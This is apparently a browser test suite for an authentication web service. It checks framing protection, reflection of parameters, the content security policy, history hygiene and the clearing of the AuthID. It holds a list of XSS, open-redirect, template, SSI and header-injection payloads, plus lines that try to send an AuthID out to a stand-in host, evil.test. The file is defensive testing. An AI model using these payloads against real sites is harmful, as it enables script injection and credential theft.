// Attacks on the pages themselves: framed, fed with markup, left and come back to.

import assert from 'node:assert/strict';
import { HTTPS, setStage, show, visit } from './support/stage.js';
import { consent, logIn } from './support/popup.js';
import { DENIAL } from './support/provider.js';

const stage = setStage({ evil: 'evil.test', naive: 'naive.test' });

const start = (server) => `${server.url}/?type=localdrive`;

// Framing

const PATHS = ['/', '/?type=localdrive', '/login?id=localdrive', '/logged-in', '/revoke', '/privacy-policy', '/nothing-here',
    '/fetch?token=attackerattacker0123456789', '/refresh', '/static/authseal.css'];

// Whether a frame around `url` on the evil page comes to show anything.
async function shows(context, url) {
    const page = await show(context, stage.evil, '/', `<iframe src="${url}"></iframe>`); // waits for the frame's load
    const [frame] = page.mainFrame().childFrames();
    const [at, text] = await frame.evaluate(() => [location.href, document.body.innerText]);
    return !at.startsWith('chrome-error:') && text !== '';
}

stage.test('nothing of ours can be framed', HTTPS, async ({ server, context }) => {
    stage.naive.pages['/'] = '<h1>a page without a rule about frames</h1>';
    assert.equal(await shows(context, `${stage.naive.origin}/`), true);
    for (const path of PATHS) assert.equal(await shows(context, server.url + path), false, path);
});

// Markup in parameters

const STRIKE = 'window.struck=1';
const PAYLOADS = [
    `<script>${STRIKE}</script>`,
    `"><script>${STRIKE}</script>`,
    `'><script>${STRIKE}</script>`,
    `</title><script>${STRIKE}</script>`,
    `</textarea><script>${STRIKE}</script>`,
    `</style><script>${STRIKE}</script>`,
    `<img src=x onerror=${STRIKE}>`,
    `"><img src=x onerror="${STRIKE}">`,
    `<svg onload=${STRIKE}>`,
    `<svg><script>${STRIKE}</script></svg>`,
    `" autofocus onfocus="${STRIKE}`,
    `' autofocus onfocus='${STRIKE}`,
    `" style="animation-name:x" onanimationstart="${STRIKE}`,
    `'){};${STRIKE};if('`,
    `';${STRIKE};//`,
    `javascript:${STRIKE}`,
    `data:text/html,<script>${STRIKE}</script>`,
    `//evil.test/`,
    `https://evil.test/`,
    `/\\evil.test/`,
    `<base href="//evil.test/">`,
    `<meta http-equiv="refresh" content="0;url=//evil.test/">`,
    `<form action="//evil.test/"><button>go`,
    `<iframe srcdoc="<script>top.${STRIKE}</script>">`,
    `{{7*7}}{% include "revoke.html" %}`,
    `\${7*7}<!--#exec cmd="id"-->`,
    `localdrive"><b>`,
    `%3Cscript%3E${STRIKE}%3C/script%3E`,
    `\u0000<script>${STRIKE}</script>`,
    `+ADw-script+AD4-${STRIKE}+ADw-/script+AD4-`,
    `\r\nSet-Cookie: struck=1\r\n\r\n<script>${STRIKE}</script>`,
    `\u2028${STRIKE}\u2028`,
];

// Each parameter of each page that is shown to people: the address with `value` in it.
const PLACES = [
    ...['type', 'token', 'redirect', 'redir', 'tokenversion', 'ctx', 'unheard-of'].map((name) => ['/', '', name]),
    ['/', 'type=localdrive&', 'token'],
    ...['id', 'ctx'].map((name) => ['/login', '', name]),
    ['/login', 'id=localdrive&', 'ctx'],
    ...['code', 'state', 'iss', 'error', 'error_description', 'error_uri'].map((name) => ['/logged-in', '', name]),
    ...['id', 'ctx'].map((name) => ['/cli-token', '', name]),
    ['/revoke', '', 'authid'],
    ['/privacy-policy', '', 'url'],
    ['/nothing-here', '', 'x'],
    ['/refresh', '', 'type'],
];
// No payload is a code of an error, which the callback's page would show, so this is none either.
const HARMLESS = 'harmless words';
const address = ([path, before, name], value) => `${path}?${before}${name}=${encodeURIComponent(value)}`;

// Without what is new with each request.
const lasting = (text) => text.replaceAll(/ctx=[\w-]+/g, 'ctx=').replaceAll(/<code>[0-9a-f]{16}</g, '<code><');

// A profile that reports whatever the page's policy had to stop, dialogues, and requests to others than `server`.
async function watch(context, server) {
    const reports = [];
    await context.exposeBinding('report', (_, text) => reports.push(text));
    await context.addInitScript(() => {
        addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
            report(`policy: ${violatedDirective} ${blockedURI}`);
        });
    });
    context.on('dialog', (dialog) => dialog.dismiss().then(() => reports.push('dialog')));
    context.on('request', (request) => {
        if (new URL(request.url()).origin !== server.url) reports.push(`request to ${request.url()}`);
    });
    return reports;
}

stage.test('the payloads strike on a page that repeats its parameter', HTTPS, async ({ context }) => {
    const frames = [
        (value) => `<p>${value}</p>`,
        (value) => `<input value="${value}"><script src="data:,"></script>`,
        (value) => `<input value='${value}'>`,
        (value) => `<title>${value}</title>`,
        (value) => `<textarea>${value}</textarea>`,
        (value) => `<script>var redir = '${value}';</script>`,
        (value) => `<script>var redir = function () { if ('${value}') {} }; </script>`,
        (value) => `<a href="${value}">go</a>`,
    ];
    stage.naive.pages['/'] = frames.map((_, i) => `<iframe src="/${i}"></iframe>`).join('');
    const page = await context.newPage();
    const struck = new Set();
    for (const payload of PAYLOADS) {
        for (const [i, frame] of frames.entries()) stage.naive.pages[`/${i}`] = frame(payload);
        await page.goto(`${stage.naive.origin}/`);
        const hits = page.frames().map((frame) => frame.evaluate(() => window.struck === 1).catch(() => false)); // left
        if ((await Promise.all(hits)).includes(true)) struck.add(payload);
    }
    assert.ok(struck.size >= 14, `${struck.size} strike: ${[...struck].join('\n')}`);
});

stage.test('no parameter can put anything into a page', HTTPS, async ({ server, context }) => {
    const page = await visit(context, `${server.url}/revoke`);
    // As a page of our own may ask, so that nothing is turned away for where it comes from.
    const answers = (place, values) =>
        page.evaluate(
            (addresses) =>
                Promise.all(
                    addresses.map(async (address) => {
                        const answer = await fetch(address);
                        return `${answer.status} ${new URL(answer.url).pathname} ${await answer.text()}`;
                    }),
                ),
            values.map((value) => address(place, value)),
        );
    for (const place of PLACES) {
        const [harmless, ...others] = (await answers(place, [HARMLESS, ...PAYLOADS])).map(lasting);
        for (const [i, other] of others.entries()) assert.equal(other, harmless, `${place} ${PAYLOADS[i]}`);
    }
});

stage.test('a window led to a payload shows the harmless page, and its policy has nothing to stop', HTTPS, async ({ server, context }) => {
    const reports = await watch(context, server);
    const page = await context.newPage();
    const content = async () => [new URL(page.url()).pathname, lasting(await page.content())];
    for (const place of PLACES) {
        await page.goto(server.url + address(place, HARMLESS));
        const harmless = await content();
        for (const payload of [PAYLOADS.slice(0, 12).join(''), PAYLOADS.slice(12).join('')]) {
            await page.goto(server.url + address(place, payload));
            assert.deepEqual(await content(), harmless, `${place}`);
            assert.equal(await page.evaluate(() => window.struck), undefined, `${place}`);
        }
    }
    assert.deepEqual(reports, []);
    const cookies = await context.cookies();
    assert.deepEqual(cookies.map(({ name }) => name), ['__Host-authseal']);
});

stage.test("the provider's own words are not repeated", HTTPS, async ({ server, context }) => {
    const page = await visit(context, start(server));
    await page.click('a[href^="/login?"]');
    await page.click('button:text-is("sign-in")');
    await page.click('button:text-is("deny")');
    await page.waitForSelector('h1');
    assert.equal(await page.textContent('h1'), 'No access was given');
    assert.ok(!(await page.content()).includes(DENIAL));
});

stage.test('the policy stops a script that got into a page all the same', HTTPS, async ({ server, context }) => {
    const page = await visit(context, `${server.url}/revoke`);
    const stopped = await page.evaluate(
        (foreign) =>
            new Promise((resolve) => {
                const seen = new Set();
                addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
                    seen.add(effectiveDirective);
                    if (seen.size === 6) resolve([...seen].sort());
                });
                const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
                add(`<script>window.struck = 1</script>`);
                add(`<script src="${foreign}/x.js"></script><p style="color:red">`);
                add(`<img src="${foreign}/x.png"><iframe src="${foreign}/"></iframe>`);
                add(`<form id="out" action="${foreign}/" method="post"></form>`);
                fetch(`${foreign}/?authid=x`).catch(() => {});
                document.getElementById('out').submit();
                setTimeout(() => resolve([...seen].sort()), 5000);
            }),
        stage.evil.origin,
    );
    assert.deepEqual(stopped, ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-attr']);
    assert.equal(await page.evaluate(() => window.struck), undefined);
});

// What stays behind

stage.test('no page asks anybody else for anything', HTTPS, async ({ provider, server, context }) => {
    const asked = new Set();
    context.on('request', (request) => asked.add(new URL(request.url()).origin));
    stage.naive.pages['/'] = `<img src="${stage.evil.origin}/pixel">`;
    await visit(context, `${stage.naive.origin}/`);
    assert.ok(asked.delete(stage.evil.origin) && asked.delete(stage.naive.origin), 'such requests are seen');

    for (const path of ['/', '/?type=localdrive', '/revoke', '/privacy-policy', '/nothing-here']) {
        await visit(context, server.url + path);
    }
    assert.deepEqual([...asked], [server.url]);
    await logIn(await visit(context, start(server)));
    assert.deepEqual([...asked].sort(), [server.url, provider.issuer].sort());
});

stage.test('after a login neither code nor state stays in the address or the history', HTTPS, async ({ server, context }) => {
    const page = await visit(context, start(server));
    await logIn(page);
    assert.equal(page.url(), `${server.url}/logged-in`);
    const protocol = await context.newCDPSession(page);
    const { entries } = await protocol.send('Page.getNavigationHistory');
    const visited = entries.map(({ url }) => url).filter((url) => url.startsWith(server.url));
    assert.ok(visited.length >= 2 && !visited.some((url) => /code=|state=|ctx=/.test(url)), `${visited}`);
    const [privacy] = await Promise.all([page.waitForEvent('popup'), page.click('a[href="/privacy-policy"]')]);
    assert.equal(await privacy.evaluate(() => opener), null);
    assert.doesNotMatch(await privacy.evaluate(() => document.referrer), /code|state/);
    assert.match(await page.inputValue('#authid'), /^v3:/, 'and the AuthID is still there');
});

// Goes somewhere else and comes back by the browser's own button: all text on the page.
async function leaveAndReturn(page, elsewhere) {
    await page.goto(elsewhere);
    await page.goBack();
    return page.evaluate(() => [...document.querySelectorAll('textarea')].map(({ value }) => value).join() + document.body.innerHTML);
}

stage.test('who comes back to the page by the back button finds no AuthID', HTTPS, async ({ server, context }) => {
    stage.evil.pages['/'] = '<p>elsewhere';
    const elsewhere = `${stage.evil.origin}/`;
    stage.naive.pages['/'] = '<textarea>v3:a page that does nothing about it</textarea>';
    const naive = await visit(context, `${stage.naive.origin}/`);
    assert.match(await leaveAndReturn(naive, elsewhere), /v3:/);

    const page = await visit(context, start(server));
    assert.match(await logIn(page), /^v3:/);
    assert.doesNotMatch(await leaveAndReturn(page, elsewhere), /v3:/);
});

stage.test('a page that the browser keeps whole for the back button holds no AuthID either', HTTPS, async ({ server, context }) => {
    // The way back from such a cache begins with these two events; whether a browser takes it is its own affair.
    const page = await visit(context, start(server));
    await logIn(page);
    const left = await page.evaluate(() => {
        dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }));
        dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
        return document.getElementById('authid').value + document.documentElement.outerHTML;
    });
    assert.doesNotMatch(left, /v3:/);
    assert.ok(await page.isVisible('#hidden-now'));
});

stage.test('the AuthID leaves the screen after ten minutes', HTTPS, async ({ server, context }) => {
    const page = await visit(context, start(server));
    await page.click('a[href^="/login?"]');
    await page.clock.install();
    await consent(page);
    await page.clock.fastForward(9 * 60_000);
    assert.match(await page.inputValue('#authid'), /^v3:/);
    await page.clock.fastForward(60_000 + 1);
    assert.equal(await page.inputValue('#authid'), '');
    assert.doesNotMatch(await page.content(), /v3:/);
});
